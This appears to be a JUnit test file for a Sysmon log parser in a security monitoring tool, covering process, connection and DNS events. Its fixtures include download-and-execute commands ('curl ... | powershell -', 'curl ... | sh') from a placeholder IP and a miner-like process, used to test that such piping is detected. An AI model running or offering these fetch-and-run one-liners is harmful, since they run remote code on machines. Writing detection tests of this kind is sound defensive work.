package io.tallyman.source.sysmon;

import static org.assertj.core.api.Assertions.assertThat;

import io.tallyman.event.Destination;
import io.tallyman.event.EventTime;
import io.tallyman.event.FirstBootPrograms;
import io.tallyman.event.InstanceReference;
import io.tallyman.event.NameResolved;
import io.tallyman.event.NetworkFlow;
import io.tallyman.event.ProcessExecuted;
import io.tallyman.source.Readings;
import io.tallyman.source.Sources;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SysmonXmlTest {

    private static final SysmonXml XML = new SysmonXml();

    private static Readings read(String text) {
        return Readings.of(XML, text);
    }

    private static ProcessExecuted process(String name, String value) {
        return read(Written.event(1, Written.with(Written.MINER, name, value))).only(ProcessExecuted.class);
    }

    @Test
    void aProcessIsReadWithItsArgumentsAsWindowsSplitsThem() {
        var executed = read(Written.event(1, Written.MINER)).only(ProcessExecuted.class);
        assertThat(executed.arguments())
                .containsExactly("curl.exe", "-o", "C:\\Users\\Public\\a b.exe", "http://203.0.113.7/x?a=1&b=2");
        assertThat(executed.time())
                .isEqualTo(new EventTime(Instant.parse("2026-05-01T10:00:00.123Z"), EventTime.MILLISECOND));
        assertThat(executed.pid()).isEqualTo(4321);
        assertThat(executed.parentPid()).isEqualTo(4000);
        assertThat(executed.executable()).isEqualTo("C:\\Windows\\System32\\curl.exe");
        assertThat(executed.directory()).isEqualTo("C:\\Windows\\system32\\");
        assertThat(executed.user()).isEqualTo("NT AUTHORITY\\SYSTEM");
        assertThat(executed.origin().host()).isEqualTo("win-7.corp.example");
        assertThat(executed.machine()).isEqualTo(InstanceReference.NONE);
        assertThat(executed.command().programs()).containsExactly("curl");
        assertThat(executed.command().destinations()).containsExactly(Destination.of("203.0.113.7", 0));
        assertThat(FirstBootPrograms.starter(executed)).isPresent();
    }

    @Test
    void aParentIsToldByItsPathUnlessThatIsAnInterpreters() {
        assertThat(process("ParentCommandLine", "forged.exe").parent())
                .isEqualTo("C:\\Program Files\\Amazon\\EC2Launch\\EC2Launch.exe");
        var shell = Written.with(Written.MINER, "ParentImage", "C:\\Windows\\System32\\cmd.exe");
        var executed = read(Written.event(1, Written.with(shell, "ParentCommandLine", "cmd /c C:\\boot\\x.cmd")))
                .only(ProcessExecuted.class);
        assertThat(executed.parent()).isEqualTo("cmd /c C:\\boot\\x.cmd");
        assertThat(process("ParentImage", "-").parent()).isEqualTo("EC2Launch.exe run");
    }

    @Test
    void aDownloadThatCmdPipesIntoPowershellIsSeen() {
        var piped = process("CommandLine", "cmd.exe /c &quot;curl -s http://203.0.113.7/a.ps1 | powershell -&quot;");
        assertThat(piped.command().pipesIntoInterpreter()).isTrue();
        assertThat(piped.command().programs()).contains("cmd", "curl", "powershell");
    }

    @Test
    void whereSysmonTellsNoTimeTheLogsOwnIsTaken() {
        assertThat(process("UtcTime", "-").time().instant()).isEqualTo(Instant.parse("2026-05-01T10:00:02.1234567Z"));
    }

    @Test
    void aConnectionThatTheProcessOpenedIsAFlowWithoutTheNameThatAnybodyCouldChoose() {
        var flow = read(Written.event(3, Written.CONNECTION)).only(NetworkFlow.class);
        assertThat(flow.destination()).isEqualTo(Destination.of("203.0.113.7", 80));
        assertThat(flow.pid()).isEqualTo(4321);
        assertThat(flow.source()).isEqualTo("10.0.0.5");
        assertThat(flow.sourcePort()).isEqualTo(50_123);
        assertThat(flow.protocol()).isEqualTo("tcp");
    }

    @ParameterizedTest
    @ValueSource(strings = {"false", "", "-"})
    void aConnectionThatCameFromOutsideIsNothing(String initiated) {
        var data = Written.with(Written.CONNECTION, "Initiated", initiated);
        assertThat(read(Written.event(3, data)).nothings()).isEqualTo(1);
    }

    @Test
    void aLookUpGivesTheAddressesAmongItsResults() {
        var resolved = read(Written.event(22, Written.LOOK_UP)).only(NameResolved.class);
        assertThat(resolved.name()).isEqualTo("pool.example.org");
        assertThat(resolved.addresses()).containsExactlyInAnyOrder("203.0.113.7", "2001:db8::7");
        assertThat(resolved.pid()).isEqualTo(4321);
        var failed = Written.with(Written.LOOK_UP, "QueryResults", "-");
        assertThat(read(Written.event(22, failed)).only(NameResolved.class).addresses())
                .isEmpty();
    }

    @Test
    void eventsOfOtherKindsAndProvidersTellNothing() {
        var text = Written.event(5, Written.MINER) + "\n"
                + Written.event("Microsoft-Windows-Security-Auditing", 1, Written.MINER);
        assertThat(read(text).nothings()).isEqualTo(2);
        assertThat(read(text).events()).isEmpty();
        assertThat(read(text).reasons()).isEmpty();
    }

    @Test
    void sysmonForLinuxIsReadBehindTheHeadOfSyslog() {
        var data = Written.with(
                Written.with(Written.MINER, "Image", "/usr/bin/bash"),
                "CommandLine",
                "sh -c curl http://203.0.113.7/x | sh");
        var text = "May  1 10:00:00 vm-1 sysmon[812]: " + Written.event("Linux-Sysmon", 1, data);
        assertThat(XML.recognises(Readings.records(text))).isTrue();
        var executed = read(text).only(ProcessExecuted.class);
        assertThat(executed.arguments()).containsExactly("sh", "-c", "curl http://203.0.113.7/x | sh");
    }

    @Test
    void anExportIsReadHoweverItsEventsLieOnItsLines() {
        var first = Written.event(1, Written.MINER);
        var second = Written.event(3, Written.CONNECTION);
        var open = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<Events>";
        var spread = first.replace("><", ">\n  <");
        for (var text : new String[] {
            open + "\n" + first + "\n" + second + "\n</Events>",
            open + first + second + "</Events>",
            open + "<!-- from " + "wevtutil -->\n" + spread + "\n\n" + second + "</Events>\n"
        }) {
            var read = read(text);
            assertThat(read.reasons()).isEmpty();
            assertThat(read.events()).hasSize(2);
            assertThat(XML.recognises(Readings.records(text))).isTrue();
        }
        var third = read(open + "\n" + spread).only(ProcessExecuted.class);
        assertThat(third.origin().line()).isEqualTo(3);
    }

    @Test
    void whatLacksWhatItMustHaveIsRejected() {
        var empty = Written.with(Written.with(Written.MINER, "Image", ""), "CommandLine", "");
        assertThat(read(Written.event(1, empty)).reasons())
                .containsExactly("Event 1 of Sysmon has neither Image nor CommandLine; expected a process.");
        var nowhere = Written.with(Written.CONNECTION, "DestinationIp", "somewhere");
        assertThat(read(Written.event(3, nowhere)).reasons())
                .containsExactly("Event 3 of Sysmon has the DestinationIp \"somewhere\"; expected an address.");
        var timeless = Written.event(1, Written.with(Written.MINER, "UtcTime", "yesterday"))
                .replace("2026-05-01T10:00:02.1234567Z", "now");
        assertThat(read(timeless).reasons())
                .containsExactly(
                        "Event 1 of Sysmon has no time (UtcTime is \"yesterday\"); expected yyyy-MM-dd HH:mm:ss.SSS.");
    }

    @Test
    void onlyTextThatBeginsAsEventsDoAndHoldsOneOfSysmonIsRecognised() {
        var sysmon = Written.event(5, Written.MINER);
        assertThat(XML.recognises(Readings.records(sysmon))).isTrue();
        assertThat(XML.recognises(
                        Readings.records(Written.event("Microsoft-Windows-Security-Auditing", 1, Written.MINER))))
                .isFalse();
        assertThat(XML.recognises(Readings.records("{\"message\":\"" + sysmon + "\"}")))
                .isFalse();
        assertThat(XML.recognises(List.of())).isFalse();
        assertThat(XML.recognises(Readings.records("found this:\n" + sysmon))).isFalse();
        assertThat(Sources.shipped().named("WinEventLog:Sysmon")).hasSize(2);
    }
}
